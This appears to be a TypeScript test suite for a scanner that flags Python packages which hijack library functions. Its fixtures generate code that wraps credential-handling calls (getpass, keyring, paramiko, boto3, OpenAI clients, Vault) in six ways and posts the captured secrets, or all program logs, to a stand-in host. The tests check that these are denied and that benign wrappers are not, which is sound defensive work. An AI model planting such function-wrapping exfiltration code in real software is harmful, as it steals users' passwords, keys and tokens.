import assert from 'node:assert/strict';
import { describeFindings, scanFiles, tierOf } from './scan.js';

/** Functions of other libraries that are given, or give back, what is there to be kept: `x` is that. */
const targets: readonly (readonly [imports: string, owner: string, name: string, x: string])[] = [
  ['import getpass', 'getpass', 'getpass', 'out'],
  ['import keyring', 'keyring', 'get_password', 'out'],
  ['import click', 'click', 'prompt', 'out'],
  ['import paramiko', 'paramiko.SSHClient', 'connect', 'kwargs'],
  ['import imaplib', 'imaplib.IMAP4', 'login', 'args'],
  ['import sqlalchemy', 'sqlalchemy', 'create_engine', 'args'],
  ['import redis', 'redis.Redis', '__init__', 'kwargs'],
  ['import boto3', 'boto3', 'client', 'kwargs'],
  ['import openai', 'openai.OpenAI', '__init__', 'kwargs'],
  ['import requests', 'requests.Session', 'request', 'kwargs'],
  ['import jwt', 'jwt', 'encode', 'args'],
  ['import bcrypt', 'bcrypt', 'hashpw', 'args'],
  ['import hvac', 'hvac.Client', '__init__', 'kwargs'],
];

const send = (what: string): string => `send.urlopen('https://c.demo.test/x', data=repr(${what}).encode())`;

/** Ways to take its place. */
const ways: readonly (readonly [name: string, source: (owner: string, name: string, x: string) => string])[] =
  [
    [
      'an assignment',
      (owner, name, x) =>
        `_orig = ${owner}.${name}\ndef _tap(*args, **kwargs):\n    out = _orig(*args, **kwargs)\n    ${send(x)}\n    return out\n${owner}.${name} = _tap\n`,
    ],
    [
      'a decorator',
      (owner, name, x) =>
        `import functools\ndef _tap(fn):\n    @functools.wraps(fn)\n    def inner(*args, **kwargs):\n        out = fn(*args, **kwargs)\n        ${send(x)}\n        return out\n    return inner\n${owner}.${name} = _tap(${owner}.${name})\n`,
    ],
    [
      'an object that is called',
      (owner, name, x) =>
        `class Tap:\n    def __init__(self, fn):\n        self.fn = fn\n    def __call__(self, *args, **kwargs):\n        out = self.fn(*args, **kwargs)\n        ${send(x)}\n        return out\n${owner}.${name} = Tap(${owner}.${name})\n`,
    ],
    [
      'a patch',
      (owner, name, x) =>
        `from unittest import mock\n_orig = ${owner}.${name}\ndef _tap(*args, **kwargs):\n    out = _orig(*args, **kwargs)\n    ${send(x)}\n    return out\nmock.patch.object(${owner}, '${name}', _tap).start()\n`,
    ],
    [
      'a thread beside it',
      (owner, name, x) =>
        `import threading\n_orig = ${owner}.${name}\ndef _ship(x):\n    ${send('x')}\ndef _tap(*args, **kwargs):\n    out = _orig(*args, **kwargs)\n    threading.Thread(target=_ship, args=(${x},), daemon=True).start()\n    return out\n${owner}.${name} = _tap\n`,
    ],
    [
      'a queue behind it',
      (owner, name, x) =>
        `import queue, threading\n_orig = ${owner}.${name}\n_q = queue.Queue()\ndef _ship():\n    while True:\n        x = _q.get()\n        ${send('x')}\nthreading.Thread(target=_ship, daemon=True).start()\ndef _tap(*args, **kwargs):\n    out = _orig(*args, **kwargs)\n    _q.put(${x})\n    return out\n${owner}.${name} = _tap\n`,
    ],
  ];

const judged = (source: string): ReturnType<typeof scanFiles> =>
  scanFiles({ 'demo/__init__.py': `import urllib.request as send\n${source}` });

describe('what a function in the place of another passes on', () => {
  for (const [way, source] of ways)
    for (const [imports, owner, name, x] of targets)
      it(`${owner}.${name}, by ${way}`, () => {
        const findings = judged(`${imports}\n${source(owner, name, x)}`);
        assert.equal(tierOf(findings), 'deny', describeFindings(findings));
      });

  it('the log of the whole program, by a handler that a function puts there', () => {
    const findings = scanFiles({
      'demo/__init__.py':
        "import logging\nfrom logging.handlers import HTTPHandler\ndef attach(root):\n    root.addHandler(HTTPHandler('logs.demo.test', '/in', 'POST', secure=True))\nattach(logging.getLogger())\n",
    });
    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
  });

  it('is nothing where it says only that it was called', () => {
    for (const [way, source] of ways) {
      const findings = judged(`import pandas\n${source('pandas', 'read_csv', "'called'")}`);
      assert.notEqual(tierOf(findings), 'deny', `${way}: ${describeFindings(findings)}`);
    }
  });

  it('is worth a look where it tells its maker only how it went', () => {
    const sources = [
      "import json, time, requests\n_orig = requests.Session.send\ndef tap(self, request, **kw):\n    began = time.time()\n    answer = _orig(self, request, **kw)\n    send.urlopen('https://apm.demo.test/v1', data=json.dumps({'url': request.url, 'status': answer.status_code, 'ms': time.time() - began}).encode())\n    return answer\nrequests.Session.send = tap\n",
      "import openai, requests\n_orig = openai.OpenAI.__init__\ndef tap(self, *a, **k):\n    _orig(self, *a, **k)\n    requests.post('https://t.demo.test/e', json={'event': 'made', 'version': '1'})\nopenai.OpenAI.__init__ = tap\n",
    ];
    for (const source of sources) {
      const findings = judged(source);
      assert.equal(tierOf(findings), 'review', describeFindings(findings));
    }
  });

  it('is nothing where it goes to nobody', () => {
    const source = ways[0]?.[1] ?? assert.fail();
    const local = source('keyring', 'get_password', 'out').replace(
      / {4}send[^\n]*/,
      '    log.append(len(out))',
    );
    const findings = judged(`import keyring\nlog = []\n${local}`);
    assert.equal(tierOf(findings), 'pass', describeFindings(findings));
  });
});
